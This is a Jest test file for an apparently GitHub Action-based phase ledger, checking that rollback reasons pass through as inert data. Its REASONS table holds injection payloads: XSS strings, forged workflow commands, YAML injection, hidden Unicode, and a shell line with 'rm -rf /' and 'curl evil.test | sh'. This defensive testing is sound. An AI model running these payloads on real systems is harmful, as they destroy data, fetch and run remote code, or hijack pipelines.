import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { parse } from 'yaml';
import { git } from '../git.js';
import { ledgerPath, repository, run } from './bundle.js';

/** What people may write into a form, from harmless to meant. */
const REASONS: Readonly<Record<string, string>> = {
  Markdown:
    '# big **bold** [click](javascript:alert(1)) ![x](https://evil.test/x.png) | a | b |\n- [ ] task ```fence',
  HTML: '</details><script>alert(1)</script><img src=x onerror=alert(1)><!-- comment -->',
  mentions: '@everyone @octocat @octo-org/team closes #1, see octo/shop#2 and GH-3',
  shell: `'; rm -rf / # $(id) \`id\` && curl evil.test | sh\n"${'$'}{HOME}"`,
  'workflow commands':
    '::set-output name=phase::all\n::error file=x::forged\n  ::add-mask::forged\n::stop-commands::x\n##[error]forged\n%0A::warning::forged',
  'an output file': 'phase<<EOF\nall\nEOF\nchanged=true',
  'YAML and JSON': '"\n  - seq: 9\n    action: "promote"\n{"a":1}\t---',
  'marks that reorder and hide': 'safe\u202eegnahc\u202c\u200b\u2028\u001b[31mred\u0085end',
  'as many characters as are kept': 'é'.repeat(2_000),
};

/** Markdown outside of code blocks, where everything could come to life. */
function prose(markdown: string): string {
  return markdown.replace(/^(`{3,})[\s\S]*?^\1$/gm, '');
}

let folder: string;
/** The branch behind the one promotion. */
let promoted: string;

beforeAll(async () => {
  folder = await repository();
  const up = await run(folder, {
    operation: 'promote',
    analysis: 'analysis.json',
    reason: 'up',
    approvals: 'qa',
  });
  expect(up.code).toBe(0);
  promoted = up.outputs['commit'] ?? '';
});

beforeEach(() => {
  git(folder, 'update-ref', 'refs/heads/phasegate', promoted);
});

describe('a reason goes through the whole action as data', () => {
  test.each(Object.entries(REASONS))(
    '%s',
    async (name, reason) => {
      const output = `out-${Object.keys(REASONS).indexOf(name)}`;
      const ran = await run(folder, {
        operation: 'rollback',
        reason,
        evidence: reason,
        output,
        request: name,
      });
      expect(ran).toMatchObject({ code: 0, outputs: { phase: 'P-0', changed: 'true', failed: 'false' } });

      // What the runner reads: no command, no forged output.
      expect(ran.log).not.toMatch(/^\s*::|##\[/m);
      expect(ran.log).not.toContain('\u001b');
      expect(Object.keys(ran.outputs).sort()).toEqual([
        'approvals',
        'changed',
        'commit',
        'entry',
        'failed',
        'findings',
        'phase',
        'stabilising',
        'target',
      ]);

      // What people read.
      const [file = ''] = await readdir(join(folder, output, 'reports/rollback'));
      const report = await readFile(join(folder, output, 'reports/rollback', file), 'utf8');
      for (const text of [prose(report), prose(ran.summary)]) {
        expect(text).not.toMatch(/<(?:script|img|!--)|<\/details>|@(?=[a-z])|(?<!\\)\]\(|\*\*bold/);
        expect(text).not.toMatch(/^(?:#+ big|- \[ \] task|::)/m);
      }

      // What is kept: the text itself, once in the ledger and once in the audit, and nowhere in git's own words.
      const { entries } = parse(git(folder, 'show', `phasegate:${ledgerPath}`)) as {
        entries: { reason: string }[];
      };
      expect(entries.at(-1)?.reason).toBe(reason);
      expect(git(folder, 'log', '-1', '--format=%B', 'phasegate')).toMatch(
        /^rollback checkout: P-1 -> P-0 \(entry \d+\)\n\nWhy and by whom: governance\/phase-ledger\.yaml, entry \d+\.$/,
      );
      expect(await run(folder, { operation: 'verify' })).toMatchObject({
        code: 0,
        outputs: { findings: '0' },
      });
    },
    60_000,
  );

  test.each([
    ['one more than is kept', 2_001],
    ['as many as a form can hold', 65_535],
  ])('%s is refused with the limit, and nothing is written', async (_, length) => {
    const before = git(folder, 'rev-parse', 'phasegate');
    const ran = await run(folder, { operation: 'rollback', reason: 'x'.repeat(length) });
    expect(ran).toMatchObject({ code: 1, outputs: {} });
    expect(ran.log).toContain(
      `::error::refused: rollback refused: the reason has ${length} characters; at most 2000 are kept`,
    );
    expect(ran.log.length).toBeLessThan(2_000);
    expect(git(folder, 'rev-parse', 'phasegate')).toBe(before);
  });
});
